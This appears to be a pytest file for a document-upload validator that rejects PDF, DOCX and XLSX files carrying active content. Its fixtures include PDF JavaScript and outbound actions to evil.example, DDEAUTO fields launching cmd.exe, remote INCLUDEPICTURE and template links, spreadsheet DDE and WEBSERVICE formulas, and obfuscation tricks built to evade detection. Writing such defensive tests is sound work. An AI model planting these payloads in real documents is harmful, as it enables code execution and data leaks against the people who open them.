"""Documents that reach out, or carry what another program reads as something else, however it is written."""

import zipfile
import zlib
from io import BytesIO
from typing import Any

import pikepdf
import pytest
import xlsxwriter

from backend.media.errors import ActiveContent, Unreadable
from tests.backend.media.pictures import office, pdf, photo
from tests.backend.media.test_documents import prepare

MACRO = '<Override PartName="/word/a.xml" ContentType="application/vnd.ms-office.vba&#80;roject"/>'
OFFICE_TYPES = """<?xml version="1.0"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Override PartName="/word/document.xml"
ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"""


def escaped(octets: bytes) -> bytes:
    """The same PDF with its names written by their numbers."""
    return octets.replace(b"/JavaScript", b"/Java#53cript").replace(b"/JS ", b"/J#53 ")


def action(kind: str, **more: Any) -> pikepdf.Dictionary:
    """An action of a kind."""
    return pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **more)


def clicked(what: pikepdf.Dictionary) -> bytes:
    """A PDF with a link that does something when it is clicked."""
    written = BytesIO()
    with pikepdf.open(BytesIO(pdf())) as made:
        link = pikepdf.Dictionary(Subtype=pikepdf.Name("/Link"), Rect=[0, 0, 9, 9], A=what)
        made.pages[0].Annots = pikepdf.Array([made.make_indirect(link)])
        made.save(written)
    return written.getvalue()


def indirect(what: pikepdf.Dictionary) -> bytes:
    """A PDF whose catalogue points to an object of its own that is done at once."""
    written = BytesIO()
    with pikepdf.open(BytesIO(pdf())) as made:
        made.Root.OpenAction = made.make_indirect(what)
        made.save(written)
    return written.getvalue()


def address() -> pikepdf.Dictionary:
    """An action that opens an address; each belongs to one document."""
    return action("URI", URI=pikepdf.String("https://evil.example"))


def place() -> pikepdf.Array:
    """The first page."""
    return pikepdf.Array([0, pikepdf.Name("/Fit")])


def script() -> pikepdf.Dictionary:
    """An action that runs a script."""
    return action("JavaScript", JS=pikepdf.String("app.alert(1)"))


@pytest.mark.parametrize(
    "octets",
    [
        clicked(action("SubmitForm", F=pikepdf.String("https://evil.example"))),
        clicked(action("GoToR", F=pikepdf.String("//evil.example/share/a.pdf"))),
        clicked(action("ImportData", F=pikepdf.String("a.fdf"))),
        clicked(action("URI", URI=pikepdf.String("https://a"), Next=action("SubmitForm"))),
        pdf(OpenAction=address()),
        indirect(address()),
        pdf(OpenAction=action("GoTo", D=place(), Next=pikepdf.Array([address()]))),
        pdf(AA=pikepdf.Dictionary(WC=address())),
        escaped(pdf(OpenAction=script())),
        escaped(clicked(script())),
    ],
    ids=[
        "form sent",
        "file elsewhere",
        "data taken in",
        "form sent next",
        "address opened",
        "address opened by an object of its own",
        "address opened next",
        "address opened at the end",
        "names by their numbers",
        "names by their numbers in a link",
    ],
)
async def test_pdf_that_reaches_out_is_refused(octets: bytes) -> None:
    with pytest.raises(ActiveContent):
        await prepare(octets)


@pytest.mark.parametrize(
    "octets",
    [
        clicked(address()),
        pdf(OpenAction=place()),
        pdf(OpenAction=action("GoTo", D=place())),
        indirect(action("GoTo", D=place())),
    ],
    ids=["address to click", "place", "way to a place", "way by an object of its own"],
)
async def test_pdf_that_shows_itself_is_taken(octets: bytes) -> None:
    assert await prepare(octets) == "PDF"


def in_trailer(root: bytes) -> bytes:
    """A PDF whose catalogue is no object of its own but lies in the trailer."""
    objects = (b"<</Type/Pages/Kids[2 0 R]/Count 1>>", b"<</Type/Page/Parent 1 0 R/MediaBox[0 0 9 9]>>")
    written, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(written))
        written += b"%d 0 obj%s endobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    catalogue = b"<</Type/Catalog/Pages 1 0 R%s>>" % root
    return (
        written
        + b"xref\n0 3\n0000000000 65535 f \n%s" % table
        + b"trailer<</Size 3/Root%s>>\nstartxref\n%d\n%%%%EOF\n" % (catalogue, len(written))
    )


def streamed(where: str, **entries: Any) -> bytes:
    """A PDF with these entries in the dictionary of its page's `Contents` or of a `Form` on it."""
    written = BytesIO()
    with pikepdf.open(BytesIO(pdf())) as made:
        stream = made.make_stream(b"q Q")
        for name, value in entries.items():
            stream[f"/{name}"] = value
        if where == "Contents":
            made.pages[0].Contents = stream
        else:
            stream.Type, stream.Subtype = pikepdf.Name.XObject, pikepdf.Name.Form
            stream.BBox = pikepdf.Array([0, 0, 9, 9])
            made.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(A=stream))
        made.save(written)
    return written.getvalue()


def elsewhere(kind: str = "Filespec") -> pikepdf.Dictionary:
    """A file that is not in this document; each belongs to one document."""
    return pikepdf.Dictionary(FS=pikepdf.Name.URL, F=pikepdf.String("https://evil.example"), Type=f"/{kind}")


SCRIPT_AT_ONCE = b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"


@pytest.mark.parametrize(
    "octets",
    [
        in_trailer(SCRIPT_AT_ONCE),
        streamed("Contents", F=elsewhere()),
        streamed("Form", Ref=pikepdf.Dictionary(F=pikepdf.String("\\\\host\\share\\a.pdf"), Page=0)),
        streamed("Form", OPI=pikepdf.Dictionary({"/2.0": pikepdf.Dictionary(F=pikepdf.String("//host/a"))})),
    ],
    ids=["script in the trailer", "octets elsewhere", "page elsewhere", "picture elsewhere"],
)
async def test_pdf_whose_content_lies_elsewhere_is_refused(octets: bytes) -> None:
    with pytest.raises(ActiveContent):
        await prepare(octets)


async def test_catalogue_that_is_no_object_is_refused() -> None:
    with pytest.raises(Unreadable):
        await prepare(in_trailer(b""))


@pytest.mark.parametrize("where", ["Contents", "Form"])
async def test_pdf_with_its_own_content_is_taken(where: str) -> None:
    assert await prepare(streamed(where)) == "PDF"


def relations(inside: str, encoding: str = "utf-8") -> bytes:
    """A DOCX with these relations of its settings."""
    namespace = "http://schemas.openxmlformats.org/package/2006/relationships"
    text = (
        f'<?xml version="1.0" encoding="{encoding}"?>'
        f'<Relationships xmlns="{namespace}" xmlns:r="{namespace}">{inside}</Relationships>'
    )
    return office(word___rels__settings_dot_xml_dot_rels=text.encode(encoding))


OUT = '<Relationship Id="a" Type="x/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/>'
CLICK = '<Relationship Id="a" Type="x/hyperlink" Target="https://a" TargetMode="External"/>'


@pytest.mark.parametrize(
    "octets",
    [
        relations(OUT.replace("evil/", "evil/hyperlink/")),
        relations(OUT.replace('Mode="External"', 'Mode = "External"')),
        relations(OUT.replace('"External"', "\n'External'")),
        relations(OUT.replace('"External"', '" external "')),
        relations(OUT.replace("External", "E&#120;ternal")),
        relations(OUT.replace("<Relationship ", "<Relationship\n")),
        relations(OUT.replace("<Relationship ", "<r:Relationship ")),
        relations(OUT.replace("x/attachedTemplate", "x/hyperlink/attachedTemplate")),
        relations(OUT.replace(' TargetMode="External"', "")),
        relations(OUT, "utf-16"),
        relations(CLICK + OUT, "utf-16"),
        relations('<Relationship Id="a" Type="x/vbaProject" Target="a.xml"/>'),
        office(types=OFFICE_TYPES.replace("</Types>", MACRO + "</Types>")),
    ],
    ids=[
        "hyperlink in the address",
        "spaces",
        "line and other quotes",
        "other letters",
        "letters by their numbers",
        "line after the name",
        "prefix",
        "hyperlink in the type",
        "address without a mode",
        "UTF-16",
        "UTF-16 behind a link",
        "macros under another name",
        "macros' type by numbers",
    ],
)
async def test_document_that_reaches_out_however_it_is_written_is_refused(octets: bytes) -> None:
    with pytest.raises(ActiveContent):
        await prepare(octets)


@pytest.mark.parametrize(
    "octets",
    [
        relations(OUT.removesuffix("/>")),
        office(word___rels__a_dot_rels=b'<!DOCTYPE Relationships [<!ENTITY e "x">]><Relationships/>'),
        office(word___rels__a_dot_rels=b"<!DOCTYPE Relationships SYSTEM 'http://evil'><Relationships/>"),
        office(word___rels__a_dot_rels=b'<?xml version="1.0" encoding="utf-7"?><Relationships/>'),
        relations(OUT.replace("Target=", 'r:TargetMode="Internal" Target=')),
        office(word___rels__a_dot_rels=b"<Others/>"),
        office(word___rels__a_dot_rels=b""),
        office(types="<Types"),
    ],
)
async def test_relations_that_nobody_can_read_for_certain_are_refused(octets: bytes) -> None:
    with pytest.raises(Unreadable):
        await prepare(octets)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
async def test_links_to_click_are_taken_in_each_encoding(encoding: str) -> None:
    assert await prepare(relations(CLICK, encoding)) == "DOCX"


def archive(**at: bytes) -> bytes:
    """A DOCX with octets `between` its parts, `before_the_end` or as a `remark` of a part."""
    read = zipfile.ZipFile(BytesIO(office()))
    written = BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as made:
        for place, part in enumerate(read.infolist()):
            if place and "between" in at:
                written.write(at["between"])
                made.start_dir = written.tell()
            info = zipfile.ZipInfo(part.filename)
            info.comment = at.get("remark", b"")
            made.writestr(info, read.read(part), zipfile.ZIP_DEFLATED)
        if "before_the_end" in at:
            written.write(at["before_the_end"])
            made.start_dir = written.tell()
    return written.getvalue()


def within_a_part(octets: bytes) -> bytes:
    """A DOCX with octets behind the packed ones of a part, counted to it."""
    packer = zlib.compressobj(wbits=-15)
    packed = packer.compress(b"<x/>") + packer.flush() + octets
    written = bytearray(office(word__a_dot_xml=b"", word__b_dot_xml=b""))
    stored = BytesIO(bytes(written))
    with zipfile.ZipFile(stored, "a", zipfile.ZIP_STORED) as made:
        made.writestr("word/c.xml", packed)
    written = bytearray(stored.getvalue())
    crc = zlib.crc32(b"<x/>").to_bytes(4, "little")
    for mark, method, sum_at, size_at in ((b"PK\x03\x04", 8, 14, 22), (b"PK\x01\x02", 10, 16, 24)):
        at = written.rindex(mark)
        written[at + method : at + method + 2] = (8).to_bytes(2, "little")
        written[at + sum_at : at + sum_at + 4] = crc
        written[at + size_at : at + size_at + 4] = (4).to_bytes(4, "little")
    return bytes(written)


def local_lie() -> bytes:
    """A DOCX whose first part says another method where it begins than in the list at the end."""
    written = bytearray(office())
    written[8:10] = (0).to_bytes(2, "little")
    return bytes(written)


@pytest.mark.parametrize(
    "octets",
    [
        office() + b"<script>alert(1)</script>",
        office() + b"\0",
        office() + photo(),
        office() + office(),
        archive(between=b"<script>"),
        archive(before_the_end=b"<script>"),
        archive(remark=b"<script>"),
        within_a_part(b"<script>"),
        local_lie(),
    ],
    ids=[
        "page",
        "octet",
        "photo",
        "archive",
        "between",
        "before the end",
        "remark",
        "in a part",
        "two words",
    ],
)
async def test_archive_with_something_of_somebody_else_is_refused(octets: bytes) -> None:
    with pytest.raises(Unreadable):
        await prepare(octets)


class Pipe(BytesIO):
    """What can't be gone back in: sizes are written behind each part."""

    def seekable(self) -> bool:
        return False

    def seek(self, *_: Any) -> int:
        raise OSError


def piped() -> bytes:
    """A DOCX as a program writes it that never goes back."""
    read, written = zipfile.ZipFile(BytesIO(office())), Pipe()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as made:
        for part in read.infolist():
            made.writestr(part.filename, read.read(part))
    return written.getvalue()


@pytest.mark.parametrize(
    "octets", [archive(), piped(), within_a_part(b"")], ids=["rewritten", "piped", "packed by hand"]
)
async def test_plain_archive_is_taken(octets: bytes) -> None:
    assert await prepare(octets) == "DOCX"


WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
COMPATIBLE = "http://schemas.openxmlformats.org/markup-compatibility/2006"


def word(inside: str, part: str = "word__header1_dot_xml", encoding: str = "utf-8") -> bytes:
    """A DOCX with this in a part of it."""
    text = (
        f'<?xml version="1.0" encoding="{encoding}"?>'
        f'<w:hdr xmlns:w="{WORD}" xmlns:mc="{COMPATIBLE}" xmlns:x="urn:x" mc:Ignorable="x">{inside}</w:hdr>'
    )
    parts: dict[str, Any] = {part: text.encode(encoding)}
    return office(**parts)


def run(inside: str) -> str:
    """A run of a paragraph."""
    return f"<w:r>{inside}</w:r>"


def mark(kind: str) -> str:
    """The begin, separate or end of a field."""
    return run(f'<w:fldChar w:fldCharType="{kind}"/>')


def told(*pieces: str) -> str:
    """Pieces of an instruction."""
    return "".join(run(f'<w:instrText xml:space="preserve">{piece}</w:instrText>') for piece in pieces)


def field(*pieces: str, result: str = "1") -> str:
    """A field with its instruction in pieces."""
    return f"{mark('begin')}{told(*pieces)}{mark('separate')}{run(f'<w:t>{result}</w:t>')}{mark('end')}"


def within(inside: str) -> str:
    """A field with this in the place of its instruction."""
    return mark("begin") + inside + mark("end")


def simple(instruction: str) -> str:
    """A field in one element."""
    return f'<w:fldSimple w:instr="{instruction}"/>'


PICTURE = 'INCLUDEPICTURE "http://evil/a.png" \\d'
UNQUOTED = "DDEAUTO c:\\cmd.exe"
HIDDEN = "<mc:AlternateContent><mc:Choice Requires='x'>{}</mc:Choice></mc:AlternateContent>"


@pytest.mark.parametrize(
    "inside",
    [
        simple("DDEAUTO c:\\cmd.exe &quot;/k calc&quot;"),
        simple("&#10; dde c:\\cmd.exe"),
        simple(PICTURE.replace('"', "&quot;")),
        field(PICTURE),
        field(" ", "INC", "LUDE", "TEXT //host/share/a.docx"),
        field(" d", "D", "e", "aUTO c:\\cmd.exe"),
        mark("begin") + told(" DD", "E", "AUTO cmd"),
        field("LINK Excel.Sheet.8 //host/share/a.xls"),
        field("IMPORT //host/share/a.png"),
        field("DATABASE \\c DSN=a"),
        within(told(UNQUOTED)),
        within(run("<w:t>DDE</w:t>") + told("AUTO cmd")),
        within(run("<w:delInstrText>PAGE </w:delInstrText>") + told(UNQUOTED)),
        within(f"<w:del>{told('PAGE ')}</w:del><w:ins>{told(UNQUOTED)}</w:ins>"),
        within(told("DD") + f"<x:a>{told('PAGE')}</x:a>" + told("E cmd")),
        within(told("DD") + HIDDEN.format(mark("separate")) + told("E cmd")),
        within(told("DD") + HIDDEN.format(mark("end")) + told("E cmd")),
        within(told("DD") + field("QUOTE 69") + told(" cmd")),
        within(told("DD") + simple("QUOTE 69") + told(" cmd")),
        within(field("QUOTE 68 68 69") + told(" cmd")),
        told(UNQUOTED),
        field("PAGE", result="1</w:t></w:r>" + field(UNQUOTED) + "<w:r><w:t>"),
        '<w:mailMerge><w:query w:val="SELECT"/></w:mailMerge>',
    ],
    ids=[
        "program in one element",
        "small letters behind a line",
        "picture in one element",
        "picture",
        "text in pieces",
        "program in pieces",
        "program in pieces without an end",
        "link",
        "import",
        "database",
        "without a result",
        "in a text",
        "behind what is deleted",
        "behind tracked changes",
        "around a foreign element",
        "around a hidden result",
        "around a hidden end",
        "ends as a field says",
        "ends as an element says",
        "begins as a field says",
        "outside of a field",
        "in a result",
        "letters to many",
    ],
)
async def test_field_that_runs_or_fetches_is_refused(inside: str) -> None:
    with pytest.raises(ActiveContent):
        await prepare(word(inside))


@pytest.mark.parametrize(
    ("part", "encoding"),
    [("word__a_dot_dat", "utf-8"), ("word__a_dot_dat", "utf-16"), ("customXml__item1_dot_xml", "utf-16")],
)
async def test_field_is_found_in_each_part_and_encoding(part: str, encoding: str) -> None:
    with pytest.raises(ActiveContent):
        await prepare(word(field(PICTURE), part, encoding))


@pytest.mark.parametrize(
    "octets",
    [
        word(told("<w:t>PAGE</w:t>")),
        office(word__a_dot_xml=b"<a><b></a>"),
        office(word__a_dot_xml=b"\x4c\x6f\xa7\x94"),
        office(word__a_dot_xml=b"<!DOCTYPE a><a/>"),
        office(word__a_dot_dat=b"<!DOCTYPE a><a/>"),
        office(
            types=OFFICE_TYPES.replace(
                "</Types>", '<Default Extension="dat" ContentType="a/b+xml"/></Types>'
            ),
            word__a_dot_dat=b"<a><b></a>",
        ),
    ],
    ids=["element in a text", "not closed", "EBCDIC", "type", "type in another part", "declared"],
)
async def test_content_that_nobody_can_read_for_certain_is_refused(octets: bytes) -> None:
    with pytest.raises(Unreadable):
        await prepare(octets)


def sheet(inside: str, part: str = "xl__worksheets__sheet1_dot_xml") -> bytes:
    """An XLSX with this in a part of it."""
    parts: dict[str, Any] = {part: f'<worksheet xmlns="{SHEET}">{inside}</worksheet>'.encode()}
    return office("xlsx", **parts)


def related(kind: str) -> bytes:
    """An XLSX whose workbook has a part of a kind."""
    relation = f'<Relationship Id="a" Type="x/{kind}" Target="a.xml"/>'
    return office(
        "xlsx", xl___rels__workbook_dot_xml_dot_rels=f"<Relationships>{relation}</Relationships>".encode()
    )


def typed(kind: str) -> bytes:
    """A DOCX that declares a part of a kind."""
    part = f'<Override PartName="/a.xml" ContentType="application/x.spreadsheetml.{kind}+xml"/>'
    return office(types=OFFICE_TYPES.replace("</Types>", part + "</Types>"))


@pytest.mark.parametrize(
    "octets",
    [
        sheet('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>', "xl__externalLinks__a_dot_xml"),
        sheet('<oleLink progId="a"/>', "xl__externalLinks__a_dot_xml"),
        sheet('<connection refreshOnLoad="1"><webPr url="http://evil"/></connection>', "xl__a_dot_xml"),
        sheet('<connection><dbPr connection="DSN=a" command="a"/></connection>', "xl__a_dot_xml"),
        related("externalLink"),
        related("connections "),
        related("queryTable"),
        related("externalLinkPath"),
        typed("externalLink"),
        typed("connections"),
        typed("queryTable"),
        sheet('<c><f>_xlfn.WEBSERVICE("http://evil/"&amp;A1)</f></c>'),
        sheet('<c><f>1+_xlfn.image ("http://evil")</f></c>'),
        sheet('<c><f>RTD("a",,"b")</f></c>'),
        sheet("<c><f>cmd|'/c calc'!A0</f></c>"),
        sheet('<definedName name=\'a\'>DDE("cmd","a","b")</definedName>', "xl__a_dot_xml"),
    ],
    ids=[
        *("DDE", "OLE", "page", "database"),
        *("link", "connections", "query", "link's path"),
        *("link's type", "connections' type", "query's type"),
        *("address", "picture", "data", "program", "program by a name"),
    ],
)
async def test_sheet_that_runs_or_fetches_is_refused(octets: bytes) -> None:
    with pytest.raises(ActiveContent):
        await prepare(octets)


def text_document() -> bytes:
    """A DOCX as people write it."""
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    drawn = "http://schemas.openxmlformats.org/drawingml/2006/main"
    contents = field(
        ' TOC \\o "1-3" \\h ', result="1</w:t></w:r>" + field(" PAGEREF _Toc1 \\h ") + "<w:r><w:t>"
    )
    body = (
        f"<w:p>{run('<w:t>LINK, DDE and INCLUDE are words | of a text</w:t>')}</w:p>"
        f"<w:p>{contents}</w:p>"
        f"<w:p>{field(' HYPERLINK', ' ', '&quot;https://hanoi.gov.vn&quot; ')}{simple(' PAGE ')}</w:p>"
        f"<w:p>{within(told('=') + field(' NUMPAGES ') + told('-1'))}</w:p>"
        f"<w:p>{within(told(' IF ') + field('PAGE') + told('= 1 &quot;a&quot; &quot;b&quot;'))}</w:p>"
        f"<w:tbl><w:tr><w:tc><w:p>{run('<w:t>Bảng</w:t>')}</w:p></w:tc></w:tr></w:tbl>"
        f'<w:p><w:r><w:drawing><a:blip xmlns:a="{drawn}" r:embed="b"/></w:drawing></w:r></w:p>'
        f'<w:p><w:hyperlink r:id="a">{run("<w:t>https://a</w:t>")}</w:hyperlink></w:p>'
    )
    return office(
        types=OFFICE_TYPES.replace(
            "</Types>", '<Default Extension="jpeg" ContentType="image/jpeg"/></Types>'
        ),
        word__document2_dot_xml=f'<w:body xmlns:w="{WORD}" xmlns:r="{relation}">{body}</w:body>'.encode(),
        word__media__image1_dot_jpeg=photo(),
        word__media__image2_dot_svg=b'<svg xmlns="http://www.w3.org/2000/svg"/>',
        word__fonts__font1_dot_odttf=b"<\x91\x07" + bytes(range(256)),
        xl__drawings__vmlDrawing1_dot_vml=b"<xml><br></xml>",
        word___rels__document_dot_xml_dot_rels=(
            b"<Relationships>"
            b'<Relationship Id="a" Type="x/hyperlink" Target="https://a" TargetMode="External"/>'
            b'<Relationship Id="b" Type="x/image" Target="media/image1.jpeg"/></Relationships>'
        ),
    )


def workbook() -> bytes:
    """An XLSX as a program writes it, with formulas, a link, a picture and a chart."""
    written = BytesIO()
    with xlsxwriter.Workbook(written, {"in_memory": True}) as book:
        page = book.add_worksheet("Phản | ánh")
        page.write_formula("A1", "=SUM(B1:B9)&\"a|b\"&'Phản | ánh'!C1")
        page.write_url("A2", "https://hanoi.gov.vn")
        page.write_comment("A3", "DDE")
        page.write("A4", "=")
        page.insert_image("A5", "a.jpeg", {"image_data": BytesIO(photo())})
        page.data_validation("A6", {"validate": "list", "source": ["a|b", "LINK"]})
        book.define_name("Tên", "='Phản | ánh'!$A$1")
        chart = book.add_chart({"type": "bar"})
        chart.add_series({"values": "='Phản | ánh'!$B$1:$B$9"})
        page.insert_chart("D1", chart)
    return written.getvalue()


async def test_text_document_of_every_day_is_taken() -> None:
    assert await prepare(text_document()) == "DOCX"


async def test_workbook_of_every_day_is_taken() -> None:
    assert await prepare(workbook()) == "XLSX"
